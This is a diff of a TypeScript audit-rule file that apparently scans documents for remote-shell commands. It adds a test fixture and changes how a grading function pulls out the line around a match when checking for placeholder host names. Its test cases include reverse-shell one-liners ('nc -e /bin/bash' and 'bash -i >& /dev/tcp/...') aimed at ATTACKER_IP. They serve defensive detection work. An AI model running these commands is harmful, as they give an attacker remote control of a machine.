@@ -201,6 +201,7 @@ export const runningRules: readonly AuditRule[] = defineRules([
       negative: [
         "```sh\nnc -zv example.com 443\n```",
         "```sh\nnc -e /bin/bash ATTACKER_IP 4444\n```",
+        "```sh\nH=ATTACKER_IP; bash -i >& /dev/tcp/$H/4444 0>&1\n```",
         {
           files: { "SKILL.md": "# A", "a.sh": "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done" },
         },
@@ -373,10 +374,8 @@ function gradeFetch(found: RegExpExecArray, passage: Passage): Grade | "nothing"
 
 /** A guide about attacks names nobody's host: it shows the form. */
 function gradeRemote(found: RegExpExecArray, { kind }: Passage): Grade | undefined {
-  const line = found.input
-    .slice(found.index, found.index + found[0].length + 80)
-    .split("\n", 3)
-    .join(" ")
+  const start = found.input.lastIndexOf("\n", found.index) + 1
+  const line = found.input.slice(start, found.index + found[0].length + 80)
   const isForm =
     /\b(?:ATTACKER|LHOST|RHOST|YOUR|MY|TARGET|EVIL)[_-]?\w*|<[\w -]+>|\$\{?\w*(?:IP|HOST)\b|10\.10\.|10\.0\.0\./.test(
       line,
